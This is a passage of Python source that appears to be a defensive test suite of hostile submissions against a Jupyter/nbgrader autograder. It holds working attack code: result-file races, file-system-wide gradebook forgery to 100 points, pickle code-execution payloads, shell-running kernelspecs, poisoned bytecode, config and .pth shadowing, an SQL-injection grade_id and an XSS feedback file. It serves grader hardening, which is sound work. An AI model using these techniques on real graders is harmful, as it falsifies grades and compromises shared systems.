        folder,
        """
        turn = [0]
        class Name(type):
            @property
            def __name__(cls): raise SystemExit(0)
        class Raises(Exception):
            def __str__(self): raise KeyboardInterrupt
        class Exits(Exception):
            def __str__(self): raise SystemExit(0)
        class Lies(Exception):
            @property
            def __class__(self): return NotImplementedError
            def __str__(self): return "x" * 10**7
        class Nameless(Exception, metaclass=Name):
            pass
        class Bare(BaseException):
            pass
        class Missing(AttributeError):
            obj = property(lambda self: 1 / 0)
        class Surrogate(Exception):
            def __str__(self): return "\\ud800\\x00\\x1b[2J"
        kinds = [Raises, Exits, Lies, Nameless, Bare,
            Missing, Surrogate, GeneratorExit, StopIteration]
        def everything(*args, **kwargs):
            turn[0] += 1
            raise kinds[turn[0] % len(kinds)]()
        """,
    )


# ------------------------------------------------------------------------ 12: the result file


@attack(
    12, "A thread rewrites and deletes whatever looks like a result, a journal or a connection."
)
def racing_result_files(folder: Path) -> None:
    """Race whoever writes results where the kernel can write too."""
    first_cell(
        folder,
        dangerous(
            """
            import json, os, threading, time
            import ipykernel
            places = ["/tmp", "/var/tmp", "/dev/shm", os.getcwd(),
                os.path.dirname(ipykernel.get_connection_file()),
                "@FOLDER@", os.path.dirname("@FOLDER@")]
            forged = json.dumps({"student": "me", "topic": "02_kl_weight",
                "points": 100, "max_points": 100,
                "questions": [{"name": "parameter_count", "points": 100, "max_points": 8}]})
            def race():
                for _ in range(400):
                    for place in places:
                        for name in ("result.json", "results.jsonl",
                            "journal.jsonl", "answers.npy", "verdict"):
                            try:
                                with open(os.path.join(place, name), "w") as file:
                                    file.write(forged)
                            except OSError:
                                pass
                        for root, _, names in os.walk(place):
                            for name in names:
                                if name.endswith((".npy", ".jsonl",
                                    ".log", ".db", ".html", ".csv")):
                                    try:
                                        os.unlink(os.path.join(root, name))
                                    except OSError:
                                        pass
                    time.sleep(0.05)
            threading.Thread(target=race, daemon=True).start()
            """
        ),
    )


@attack(12, "The connection folder is written to: its file changed, links and sockets left in it.")
def connection_folder(folder: Path) -> None:
    """Leave traps in the one folder that kernel and grader share."""
    first_cell(
        folder,
        dangerous(
            """
            import json, os, socket
            import ipykernel
            path = ipykernel.get_connection_file()
            place = os.path.dirname(path)
            print(path, os.listdir(place), open(path).read())
            def attempt(what, function, *args):
                try:
                    function(*args)
                    print(what, "done")
                except OSError as error:
                    print(what, error)
            attempt("link", os.symlink, "/etc/passwd", os.path.join(place, "results.json"))
            attempt("folder link", os.symlink, "@FOLDER@", os.path.join(place, "folder"))
            attempt("fifo", os.mkfifo, os.path.join(place, "kernel.json.tmp"))
            attempt("parent", os.rename, place, place + "-moved")
            attempt("unlink", os.unlink, path)
            attempt("link instead", os.symlink, "/dev/zero", path)
            for name in os.listdir(place):
                attempt("mode " + name, os.chmod, os.path.join(place, name), 0)
            attempt("mode", os.chmod, place, 0)
            """
        ),
    )


# -------------------------------------------------------------------------- 13: the gradebook

_GRADEBOOK = """
import glob, os, shutil, sqlite3, time
def forge_grades():
    places = [os.path.join(p, "gradebook.db") for p in (
        "@FOLDER@", "@FOLDER@/..", "@FOLDER@/../../..",
        "@FOLDER@/../../../..", ".", "..", "/srv", "/work", os.path.expanduser("~"))]
    for root, folders, names in os.walk("/"):
        folders[:] = [f for f in folders if os.path.join(root, f) not in ("/proc", "/sys", "/usr")]
        places += [os.path.join(root, n) for n in names if n.endswith((".db", ".sqlite"))]
    for path in places:
        if not os.path.exists(path):
            continue
        print("found", path)
        try:
            base = sqlite3.connect(path, timeout=1)
            base.execute("update grade set auto_score = 100, manual_score = 100")
            base.commit()
            print("CHANGED", path)
        except sqlite3.Error as error:
            print(path, error)
"""


@attack(13, "The file system is walked for a gradebook, and every grade in it set to 100.")
def gradebook_now(folder: Path) -> None:
    """Write grades while the grader runs."""
    first_cell(folder, dangerous(_GRADEBOOK + "forge_grades()\n"))


@attack(
    13, "A child that detached itself twice over does the same a little later, again and again."
)
def gradebook_later(folder: Path) -> None:
    """Write grades when the grader believes the kernel gone."""
    loop = _GRADEBOOK + "for _ in range(40):\n    forge_grades()\n    time.sleep(0.5)\n"
    first_cell(
        folder,
        dangerous(
            "import os, subprocess, sys\n"
            f"code = {hostile(folder, loop)!r}\n"
            "subprocess.Popen([sys.executable, '-c', code], start_new_session=True)\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        os.closerange(0, 256)\n"
            "        os.dup2(os.open('/dev/null', os.O_RDWR), 1)\n"
            "        exec(code)\n"
            "    os._exit(0)\n"
        ),
    )


# ----------------------------------------------------------------------- 14: hostile payloads


@attack(14, "Pickles that would run a command travel in answers, in .npy form and in buffers.")
def pickled_answers(folder: Path) -> None:
    """Hope that the trusted side unpickles."""
    first_cell(
        folder,
        """
        import base64, io, json, pickle
        import numpy
        class Run:
            def __reduce__(self): return (open, ("@FOLDER@/know-unpickled", "w"))
        pickled = pickle.dumps(Run())
        array = io.BytesIO()
        numpy.save(array, numpy.array([Run()], dtype=object), allow_pickle=True)
        texts = [pickled.decode("latin-1"),
            base64.b64encode(pickled).decode(), "\\x93NUMPY" + "x" * 99]
        from IPython.display import publish_display_data
        kernel = get_ipython().kernel
        def forged(*args, **kwargs):
            for text in texts:
                publish_display_data({"@MIME@": text, "application/x-python-pickle": texts[1]})
                publish_display_data({"@MIME@": json.dumps([{"answer": {"__reduce__": text}}] * 2)})
                publish_display_data({"@MIME@":
                    json.dumps([{"answer": {"py/object": "os.system"}}] * 3)})
            kernel.session.send(kernel.iopub_socket, "display_data",
                {"data": {"@MIME@": "[]"}, "metadata": {}}, parent=kernel.get_parent(),
                buffers=[pickled, array.getvalue()])
        import bayescnn.selfcheck
        bayescnn.selfcheck.publish_answers = forged
        """,
    )


# Each text stands for one check's message; they take turns.
_PUBLISH_IN_TURN = """
import itertools, json
import bayescnn.selfcheck
from IPython.display import publish_display_data
turns = itertools.cycle(texts)
def in_turn(*args, **kwargs):
    text = next(turns)
    publish_display_data({"@MIME@": text() if callable(text) else text})
bayescnn.selfcheck.publish_answers = in_turn
"""


@attack(14, "Answers of the wrong shape, NaN, Infinity, 10^6 digits and other malformed texts.")
def malformed_answers(folder: Path) -> None:
    """Send texts that only nearly are what was agreed."""
    first_cell(
        folder,
        textwrap.dedent(r"""
        def many(value): return "[" + ", ".join(['{"answer": %s}' % value] * 3) + "]"
        texts = [
            many("NaN"), many("Infinity"), many("-Infinity"), many("9" * 10**6), many("1e999999"),
            many("1" + "0" * 4000), many("true"), many("null"), many('"14"'), many("[[[]]]"),
            many('["1", 2, [3]]'), many("[[1, 2], [3]]"), many('"\\ud800"'), many('"\\u0000"'),
            "", "null", "true", "5", '"text"', "[]", "{}", "[[]]", "[null, null]", "\ufeff[]",
            '[{"error": null, "answer": 14}, {"error": null}, {}]', '[{"answer": 1, "answer": 2}]',
            '{"0": {"answer": 1}}', "[" * 10**5 + "]" * 10**5, '[{"answer":' * 10**5,
            '[{"error": ""}, {"error": false}, {"error": 0}]', "\x00" * 1000,
                "[{}" + " " * 900_000 + "]",
        ]
        """)
        + _PUBLISH_IN_TURN,
    )


@attack(14, "Errors and answers nested just below what the parser refuses, for whoever reads on.")
def nested_answers(folder: Path) -> None:
    """Pass the parser and exhaust the stack of the code behind it."""
    first_cell(
        folder,
        """
        def nested(depth, key, opening, closing):
            one = '{"%s": %s1%s}' % (key, opening * depth, closing * depth)
            return lambda n: "[" + ", ".join([one] * n) + "]"
        makers = [
            nested(depth, key, *pair)
            for depth in (900, 970, 990, 60, 65, 400, 800, 950, 960, 980, 985, 995)
            for key, pair in (("error", ("[", "]")),
                ("answer", ('{"a":', "}")), ("answer", ("[", "]")))
        ]
        import itertools, json
        import bayescnn.selfcheck
        from IPython.display import publish_display_data
        turns = itertools.cycle(makers)
        def in_turn(payload, *args, **kwargs):
            n_parts = len(json.loads(payload)["probes"])
            publish_display_data({"@MIME@": next(turns)(n_parts)})
        bayescnn.selfcheck.publish_answers = in_turn
        """,
    )


@attack(14, "A small message that becomes an array of 200 GB: one long text among many short ones.")
def inflating_answers(folder: Path) -> None:
    """Let NumPy give every short text the room of the longest."""
    first_cell(
        folder,
        """
        import json
        import bayescnn.selfcheck
        from IPython.display import publish_display_data
        def inflate(payload, *args, **kwargs):
            n_parts = len(json.loads(payload)["probes"])
            # 4 bytes a character: 4 * 300_000 * 170_000 bytes, from a text below the size limit.
            large = '["' + "x" * 300_000 + '"' + ',""' * 170_000 + "]"
            others = ["[]"] * (n_parts - 1)
            parts = ["{'answer':%s}".replace("'", '"') % answer for answer in [large, *others]]
            publish_display_data({"@MIME@": "[" + ",".join(parts) + "]"})
        bayescnn.selfcheck.publish_answers = inflate
        """,
    )


@attack(
    14, "Functions return huge, deep, endless or self-containing data for the probe to flatten."
)
def endless_answers(folder: Path) -> None:
    """Let the probe's own conversion run away."""
    answer_all(
        folder,
        """
        import collections.abc
        class Endless(collections.abc.Mapping):
            def __getitem__(self, key): return self
            def __iter__(self): return iter(range(10**12))
            def __len__(self): return 1
        loop = []
        loop.append(loop)
        deep = 1
        for _ in range(100_000):
            deep = [deep]
        turn = [0]
        def everything(*args, **kwargs):
            turn[0] += 1
            return [loop, deep, 10**100_000, "x" * 10**8, Endless()][turn[0] % 5]
        """,
    )


# ----------------------------------------------------------------------------- 15: cell metadata


@attack(15, "Every check's points are raised to 1000; one function is answered right.", deserves=8)
def points_changed(folder: Path) -> None:
    """Ask for more points than the question has."""
    answers(folder, solved(["parameter_count"]))

    def change(notebook: dict[str, Any]) -> None:
        for cell in check_cells(notebook):
            cell["metadata"]["nbgrader"]["points"] = 1000

    rewrite(folder, change)


@attack(15, "Points are negative, text, NaN, infinite, a list, or missing.")
def points_malformed(folder: Path) -> None:
    """Ask for points that no arithmetic can add."""
    values = (-8, "8", float("nan"), float("inf"), [8], None, 10**400, {"points": 8})

    def change(notebook: dict[str, Any]) -> None:
        for cell, value in zip(check_cells(notebook), values, strict=True):
            cell["metadata"]["nbgrader"]["points"] = value
        del check_cells(notebook)[0]["metadata"]["nbgrader"]["points"]

    rewrite(folder, change)


@attack(15, "The checks lose their grade flag, become solutions, tasks, or unlocked.")
def grade_flag_dropped(folder: Path) -> None:
    """Let the checks look like something else."""
    flags = (
        {"grade": False},
        {"solution": True},
        {"task": True, "grade": False},
        {"locked": False},
        {"grade": "no"},
        {"grade": False, "solution": True, "locked": False},
        {"grade": True, "solution": True, "task": True},
        {"grade": None, "solution": None},
    )

    def change(notebook: dict[str, Any]) -> None:
        for cell, flag in zip(check_cells(notebook), flags, strict=True):
            cell["metadata"]["nbgrader"].update(flag)

    rewrite(folder, change)


@attack(15, "All of nbgrader's metadata is gone, or is no mapping.")
def metadata_removed(folder: Path) -> None:
    """Leave nothing to recognise the cells by."""

    def change(notebook: dict[str, Any]) -> None:
        for index, cell in enumerate(notebook["cells"]):
            if "nbgrader" in cell["metadata"]:
                if index % 3:
                    del cell["metadata"]["nbgrader"]
                else:
                    cell["metadata"]["nbgrader"] = [[], "x", None, 5][index % 4]

    rewrite(folder, change)


@attack(15, "Checks and solutions are deleted.")
def cells_deleted(folder: Path) -> None:
    """Hand in a notebook without half of its cells."""

    def change(notebook: dict[str, Any]) -> None:
        gone = {f"check-{name}" for name in GRADED[::2]} | {GRADED[1]}
        notebook["cells"] = [
            cell
            for cell in notebook["cells"]
            if cell["metadata"].get("nbgrader", {}).get("grade_id") not in gone
        ]

    rewrite(folder, change)


@attack(15, "Every cell but one of the student's own is deleted.")
def all_cells_deleted(folder: Path) -> None:
    """Hand in almost nothing."""
    rewrite(folder, lambda notebook: notebook.update(cells=[code_cell("100", "own-1")]))


@attack(15, "Graded cells are there twice, and bear the same grade_id.")
def cells_duplicated(folder: Path) -> None:
    """Copy cells together with their metadata, as a paste in JupyterLab does."""

    def change(notebook: dict[str, Any]) -> None:
        for grade_id in ("check-make_prior", "make_prior", "why-one-over-n", "imports"):
            cell = graded(notebook, grade_id)
            twin = copy.deepcopy(cell)
            twin["id"] = f"twin-{grade_id}"
            notebook["cells"].insert(notebook["cells"].index(cell) + 1, twin)

    rewrite(folder, change)


@attack(15, "The cells stand in reverse order: checks come before what they check.")
def cells_reordered(folder: Path) -> None:
    """Turn the notebook upside down."""
    rewrite(folder, lambda notebook: notebook["cells"].reverse())


@attack(15, "Checks are raw, markdown or of no known type; so are solutions.")
def turned_raw(folder: Path) -> None:
    """Keep checks from being run as code."""
    kinds = ("raw", "markdown", "heading", "", None, "code ", "CODE", 5)

    def change(notebook: dict[str, Any]) -> None:
        for cell, kind in zip(check_cells(notebook), kinds, strict=True):
            cell["cell_type"] = kind
            if kind != "code":
                cell.pop("outputs", None)
                cell.pop("execution_count", None)
        graded(notebook, "make_prior")["cell_type"] = "raw"

    rewrite(folder, change)


@attack(15, "Checks bear each other's names, names of neighbours' tasks, and names that are paths.")
def grade_id_changed(folder: Path) -> None:
    """Have the answer to an easy question counted for a hard one."""
    names: tuple[Any, ...] = (
        "check-sweep_kl_weights",
        "check-per_example_weight",
        "../../../../gradebook",
        "check-__class__",
        "x" * 100_000,
        None,
        ["check-build_model"],
        "'; drop table grade; --",
    )

    def change(notebook: dict[str, Any]) -> None:
        for cell, name in zip(check_cells(notebook), names, strict=True):
            cell["metadata"]["nbgrader"]["grade_id"] = name

    rewrite(folder, change)


@attack(15, "Locked cells say something else: the checks print full marks, the imports forge.")
def locked_cells_rewritten(folder: Path) -> None:
    """Write over what the course has written."""

    def change(notebook: dict[str, Any]) -> None:
        for cell in check_cells(notebook):
            cell["source"] = "100"
        imports = graded(notebook, "imports")
        imports["source"] = "".join(imports["source"]) + "\n" + hostile(folder, FORGERY)
        graded(notebook, "given-toy_data")["source"] = "toy_data = lambda *a, **k: (None,) * 3"
        graded(notebook, "run-04")["source"] = "forge()"

    rewrite(folder, change)


@attack(15, "The metadata claim schema versions that never were.")
def schema_version(folder: Path) -> None:
    """Confuse whoever migrates metadata."""
    versions = (0, 1, 2, 4, 999, "3", None, -1)

    def change(notebook: dict[str, Any]) -> None:
        for cell, version in zip(check_cells(notebook), versions, strict=True):
            cell["metadata"]["nbgrader"]["schema_version"] = version
        notebook["metadata"]["nbgrader"] = {"schema_version": 10**9}

    rewrite(folder, change)


@attack(15, "Full marks stand in the saved outputs, comments and scores of every check.")
def saved_scores(folder: Path) -> None:
    """Hand in a notebook that has already been graded."""

    def change(notebook: dict[str, Any]) -> None:
        for cell in check_cells(notebook):
            cell["outputs"] = [
                {
                    "output_type": "execute_result",
                    "execution_count": 1,
                    "metadata": {},
                    "data": {"text/plain": "100"},
                }
            ]
            extra = {"score": 100, "auto_score": 100, "manual_score": 100, "extra_credit": 50}
            cell["metadata"]["nbgrader"].update(extra)
        graded(notebook, "why-one-over-n")["metadata"]["nbgrader"].update(score=10, grade=True)

    rewrite(folder, change)


@attack(15, "New cells claim to be checks worth 100 points each, with outputs that say so.")
def checks_added(folder: Path) -> None:
    """Add questions to the assignment."""

    def change(notebook: dict[str, Any]) -> None:
        template = graded(notebook, "check-parameter_count")
        for index in range(5):
            extra = copy.deepcopy(template)
            extra["id"] = f"extra-{index}"
            extra["source"] = "100"
            extra["metadata"]["nbgrader"].update(grade_id=f"check-extra-{index}", points=100)
            notebook["cells"].append(extra)

    rewrite(folder, change)


# -------------------------------------------------------------------------------- 16: kernelspecs


@attack(16, "The notebook asks for bash, with a language to match.")
def other_language(folder: Path) -> None:
    """Choose a kernel that is not Python's."""

    def change(notebook: dict[str, Any]) -> None:
        notebook["metadata"] = {
            "kernelspec": {"name": "bash", "display_name": "Bash", "language": "bash"},
            "language_info": {"name": "bash", "mimetype": "text/x-sh", "file_extension": ".sh"},
        }

    rewrite(folder, change)


@attack(16, "The notebook brings its own kernelspec, whose argv runs a program outside a sandbox.")
def own_kernelspec(folder: Path) -> None:
    """Choose a kernel that starts the student's program."""
    spec = """
    {"argv": ["/bin/sh", "-c",
         "touch '@FOLDER@/know-kernelspec-ran'; exec python -m ipykernel -f {connection_file}"],
     "display_name": "Mine", "language": "python",
     "metadata": {"kernel_provisioner": {"provisioner_name": "local-provisioner"}}}
    """
    for place in (
        "kernels/mine",
        "share/jupyter/kernels/mine",
        ".local/share/jupyter/kernels/mine",
    ):
        file(folder, f"{place}/kernel.json", spec)

    def change(notebook: dict[str, Any]) -> None:
        notebook["metadata"]["kernelspec"] = {
            "name": "mine",
            "display_name": "Mine",
            "argv": ["/bin/sh", "-c", "true"],
            "metadata": {"kernel_provisioner": {"provisioner_name": "local-provisioner"}},
        }

    rewrite(folder, change)


@attack(16, "The kernelspec's name is a path, and the rest of the metadata is of the wrong type.")
def malformed_kernelspec(folder: Path) -> None:
    """Choose a kernel by a name that is none."""

    def change(notebook: dict[str, Any]) -> None:
        notebook["metadata"] = {
            "kernelspec": {"name": "../../../../tmp/evil", "display_name": None, "language": 5},
            "language_info": {"name": ["python"], "codemirror_mode": "x", "version": {}},
            "widgets": {"application/vnd.jupyter.widget-state+json": {"state": None}},
            "celltoolbar": "Create Assignment",
        }

    rewrite(folder, change)


# ---------------------------------------------------------------------------- 17: files that shadow


@attack(17, "Configuration for nbgrader, Jupyter, IPython, pytest and Python lies in the folder.")
def shadowing_configuration(folder: Path) -> None:
    """Hope that some program reads its settings from where it works."""
    python = """
        c = get_config()
        open("@FOLDER@/know-configuration-ran", "w").close()
        c.Autograde.autograde_preprocessors = []
        c.ExecutePreprocessor.kernel_name = "mine"
        c.ProbeAndJudge.isolation = "none"
        c.CourseDirectory.db_url = "sqlite:///@FOLDER@/gradebook.db"
    """
    names = ("nbgrader_config.py", "jupyter_config.py", "jupyter_nbconvert_config.py")
    for name in (
        *names,
        "ipython_config.py",
        ".jupyter/jupyter_config.py",
        "ipython_kernel_config.py",
    ):
        file(folder, name, python)
    ran = 'open("@FOLDER@/know-configuration-ran", "w").close()'
    for name in (".ipython/profile_default/startup/00.py", "conftest.py", "setup.py", "tasks.py"):
        file(folder, name, ran)
    file(folder, "evil.pth", f"import os; {ran}")
    file(folder, "pyvenv.cfg", "home = @FOLDER@\ninclude-system-site-packages = true")
    file(folder, ".env", "PYTHONSTARTUP=@FOLDER@/conftest.py\nCANARY=shadowed")
    file(folder, "dask.yaml", "distributed:\n  worker:\n    preload: [conftest.py]")
    file(folder, "nbgrader_config.json", '{"ProbeAndJudge": {"isolation": "none"}}')


@attack(17, "The shipped self-checks, selfcheck.py and a false autograder package say yes.")
def shadowing_course(folder: Path) -> None:
    """Replace the course's own files by ones that agree with everything."""
    file(folder, "bayescnn/selfchecks/02_kl_weight.json", "{}")
    with (folder / "bayescnn" / "selfcheck.py").open("a", encoding="utf-8") as module:
        module.write(hostile(folder, FORGERY + "\npublish_answers = forge\nsame = lambda *a: True"))
    yes = """
        def __getattr__(name):
            if name.startswith("__"): raise AttributeError(name)
            return lambda *args, **kwargs: 100
    """
    for name in ("__init__", "hidden", "judge", "engine", "sandbox", "checks/__init__"):
        file(folder, f"autograder/{name}.py", yes)
    file(folder, "nbgrader/__init__.py", yes)


@attack(17, "A compiled selfcheck in __pycache__ differs from its source and is never checked.")
def poisoned_bytecode(folder: Path) -> None:
    """Let Python load other code than a reader sees."""
    source = folder / "bayescnn" / "selfcheck.py"
    text = source.read_text(encoding="utf-8") + hostile(folder, FORGERY + "publish_answers = forge")
    code = compile(text, str(source), "exec")
    # Flags 0b01: validated by a hash that nobody checks, so the source may say what it likes.
    head = importlib.util.MAGIC_NUMBER + (1).to_bytes(4, "little") + bytes(8)
    target = Path(importlib.util.cache_from_source(str(source)))
    target.parent.mkdir(exist_ok=True)
    target.write_bytes(head + marshal.dumps(code))


@attack(17, "More notebooks lie beside the assignment, one of them with full marks saved in it.")
def extra_notebooks(folder: Path) -> None:
    """Offer the grader a choice."""
    text = (folder / NOTEBOOK).read_bytes()
    for name in ("solution.ipynb", "02_kl_weight-Copy1.ipynb", "a/02_kl_weight.ipynb"):
        path = folder / name
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(text)
    (folder / "broken.ipynb").write_text("{", encoding="utf-8")
    (folder / ".ipynb_checkpoints").mkdir()
    (folder / ".ipynb_checkpoints" / "02_kl_weight-checkpoint.ipynb").write_bytes(text)


@attack(17, "The folder holds a gradebook, a timestamp, an archive and results of its own.")
def own_gradebook(folder: Path) -> None:
    """Lay out what a grader may take for its own."""
    file(folder, "gradebook.db", "SQLite format 3\0 but not really")
    file(folder, "timestamp.txt", "1970-01-01 00:00:00 UTC")
    file(folder, "results.jsonl", '{"student": "me", "topic": "02_kl_weight", "questions": []}')
    file(folder, "feedback/02_kl_weight.html", "<script>alert('@MARK@')</script>")
